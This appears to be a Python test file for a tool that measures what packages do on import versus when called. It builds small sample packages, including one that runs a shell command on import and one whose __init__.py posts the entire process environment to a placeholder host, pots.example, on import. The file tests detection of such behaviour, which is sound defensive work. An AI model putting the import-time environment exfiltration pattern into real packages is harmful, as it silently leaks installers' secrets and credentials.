from measured_packages import sdist


def test_what_a_module_does_by_itself_is_told_apart_from_what_it_does_when_called(measure_packages):
    imported, called = measure_packages(
        sdist({"pots/__init__.py": "import os\nos.system('id')\n"}),
        sdist({"pots/__init__.py": "import os\ndef fire():\n    os.system('id')\n"}),
    )
    assert (imported["import_process"], imported["any_time_process"]) == (1, 1)
    assert (called["import_process"], called["any_time_process"]) == (0, 1)


def test_sending_what_was_collected_on_import_is_told(measure_packages):
    code = "import os, requests\nrequests.post('https://pots.example', json=dict(os.environ))\n"
    (values,) = measure_packages(sdist({"pots/__init__.py": code}))
    assert values["import_exfiltration_flow"] == 1
    assert values["import_exfiltration_chain"] == 1
